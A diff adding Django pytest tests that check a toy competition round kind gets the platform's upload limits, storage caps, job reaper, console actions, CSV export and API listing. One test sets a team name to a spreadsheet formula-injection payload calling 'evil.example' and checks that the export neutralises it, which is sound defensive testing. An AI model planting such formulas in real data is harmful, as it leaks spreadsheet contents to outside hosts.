@@ -1,0 +1,162 @@
+"""A new round kind gets the core's guarantees with no change to the core: the toy game of
+``tests/pwscup/toykind/`` (its own folder) is added by one registration line, then gets the
+upload pipeline (size, daily limit, failed-upload cap, per-team storage over every kind,
+numbering, the file kept with its SHA-256, scoring as a job the reaper watches), the
+console's create/close/publish with their confirmation, publishing that closes the phases
+and tells the participants, the spreadsheet-safe CSV export and the API listing."""
+
+import datetime as dt
+import hashlib
+import importlib
+from unittest import mock
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import connection
+from django.urls import clear_url_caches, reverse
+from django.utils import timezone
+
+import pwscup.urls
+from pwscup.competitions.models import Round
+from pwscup.kinds import register, unregister
+from pwscup.notifications.models import Notification
+from pwscup.submissions.models import RoundOperation
+from pwscup.submissions.services import round_operation_run
+from pwscup.submissions.services.maintenance import jobs_reap
+from tests.pwscup.factories import scored
+from tests.pwscup.toykind import services as toy_services
+from tests.pwscup.toykind.kind import ToyGameKind
+from tests.pwscup.toykind.models import ToyUpload
+
+pytestmark = pytest.mark.django_db
+
+
+def _reload_urls():
+    clear_url_caches()
+    importlib.reload(pwscup.urls)
+
+
+@pytest.fixture
+def toy_game(db):
+    register(ToyGameKind())  # the one registration line (an app's ``ready()`` in a real kind)
+    _reload_urls()
+    with connection.schema_editor() as editor:
+        editor.create_model(ToyUpload)
+    yield
+    unregister("toygame")
+    _reload_urls()
+
+
+@pytest.fixture
+def toy_round(client, world, toy_game):
+    """Created through the toy's console page, by an organizer (not a superuser)."""
+    client.force_login(world.organizer)
+    created = client.post(
+        reverse("toygame_console:create", args=[world.competition.slug]),
+        {"name": "Toy round", "slug": "toy", "daily_limit": "3"},
+    )
+    assert created.status_code == 302
+    assert created["Location"] == reverse("console:round", args=[world.competition.slug, "toy"])
+    client.logout()
+    return Round.objects.get(competition=world.competition, slug="toy")
+
+
+def _url(world, name):
+    return reverse(name, args=[world.competition.slug, "toy"])
+
+
+def _upload(client, world, content: bytes, letter="a"):
+    client.force_login(world.users[letter])
+    return client.post(
+        _url(world, "toygame:upload"), {"file": SimpleUploadedFile("mine.csv", content)}
+    )
+
+
+def test_uploads_go_through_the_core_pipeline(client, world, toy_round, settings):
+    first = _upload(client, world, b"a\nb\n")
+    assert first.status_code == 202 and first.json() == {"number": 1, "status": "queued"}
+    kept = ToyUpload.objects.get()
+    assert kept.size == 4 and kept.sha256 == hashlib.sha256(b"a\nb\n").hexdigest()
+    toy_services.toy_score(upload_id=kept.pk)  # what the worker runs
+    kept.refresh_from_db()
+    assert kept.status == "finished" and kept.score == 2.0
+    # The round's daily limit (3 a day), counted by the core.
+    assert _upload(client, world, b"x\n").json()["number"] == 2
+    assert _upload(client, world, b"x\n").json()["number"] == 3
+    refused = _upload(client, world, b"x\n")
+    assert refused.status_code == 429 and "3 submissions for today" in refused.json()["error"]
+    # The core's size cap and empty-file refusal.
+    settings.PWSCUP_MAX_UPLOAD_BYTES = 10
+    assert _upload(client, world, b"0123456789A", letter="b").status_code == 413
+    assert _upload(client, world, b"", letter="b").status_code == 400
+    assert ToyUpload.objects.filter(team=world.teams["b"]).count() == 0
+
+
+def test_failed_uploads_and_storage_are_bounded_over_every_kind(client, world, toy_round, settings):
+    settings.PWSCUP_MAX_FAILED_UPLOADS_PER_DAY = 2
+    for _ in range(2):
+        pk = ToyUpload.objects.get(number=_upload(client, world, b" ").json()["number"]).pk
+        ToyUpload.objects.filter(pk=pk).update(status="failed")
+    capped = _upload(client, world, b"a\n")
+    assert capped.status_code == 429 and "2 failed uploads today" in capped.json()["error"]
+    # Bytes kept per team count the first kind's uploads too.
+    settings.PWSCUP_MAX_FAILED_UPLOADS_PER_DAY = 50
+    first_kind = scored(world, "b")
+    settings.PWSCUP_MAX_STORED_BYTES_PER_TEAM = first_kind.size + 5
+    assert _upload(client, world, b"abcde", letter="b").status_code == 202
+    full = _upload(client, world, b"f", letter="b")
+    assert full.status_code == 413 and "does not fit" in full.json()["error"]
+
+
+def test_the_reaper_resends_a_lost_toy_job(client, world, toy_round, settings):
+    with mock.patch("pwscup.submissions.broker.job_send"):
+        pk = ToyUpload.objects.get(number=_upload(client, world, b"a\n").json()["number"]).pk
+    ToyUpload.objects.filter(pk=pk).update(queued_at=timezone.now() - dt.timedelta(hours=1))
+    with mock.patch("pwscup.submissions.broker.job_send") as send:
+        assert jobs_reap()["resent"] == 1
+    assert mock.call(toy_services.SCORE_TOY, pk) in send.call_args_list
+
+
+def test_console_close_and_publish_with_confirmation(client, world, toy_round):
+    client.force_login(world.organizer)
+    page = client.get(reverse("console:round", args=[world.competition.slug, "toy"]))
+    assert page.status_code == 200
+    assert b'data-testid="action-close"' in page.content
+    assert b'data-testid="action-publish"' in page.content
+    action = reverse("console:round_action", args=[world.competition.slug, "toy", "close"])
+    confirm = client.get(action)
+    assert confirm.status_code == 200 and b'data-testid="confirm-close"' in confirm.content
+    assert toy_round.phases.get().is_open()  # a GET changes nothing
+    assert client.post(action).status_code == 302
+    assert not toy_round.phases.get().is_open()
+    refused = _upload(client, world, b"late\n")
+    assert refused.status_code == 403 and ToyUpload.objects.count() == 0
+    publish = reverse("console:round_action", args=[world.competition.slug, "toy", "publish"])
+    client.force_login(world.organizer)
+    assert client.post(publish).status_code == 302
+    operation = RoundOperation.objects.get(round=toy_round, kind="publish")
+    round_operation_run(operation_id=operation.pk)  # what the worker runs
+    toy_round.refresh_from_db()
+    assert toy_round.results_published
+    told = Notification.objects.filter(user=world.users["a"], kind="results_published").get()
+    assert told.url == _url(world, "toygame:leaderboard")
+
+
+def test_a_member_cannot_run_console_actions(client, world, toy_round):
+    client.force_login(world.users["a"])
+    action = reverse("console:round_action", args=[world.competition.slug, "toy", "close"])
+    assert client.post(action).status_code in (403, 404)
+    assert toy_round.phases.get().is_open()
+
+
+def test_export_and_api_listing(client, world, toy_round):
+    world.teams["a"].name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    world.teams["a"].save()
+    pk = ToyUpload.objects.get(number=_upload(client, world, b"a\n").json()["number"]).pk
+    toy_services.toy_score(upload_id=pk)
+    csv = client.get(_url(world, "toygame:leaderboard")).content.decode()
+    assert "'=HYPERLINK" in csv and "\n=HYPERLINK" not in csv
+    listed = client.get(reverse("api:competition-detail", args=[world.competition.slug]))
+    assert listed.status_code == 200
+    rounds = {r["slug"]: r for r in listed.json()["rounds"]}
+    assert rounds["toy"]["kind"] == "toygame"
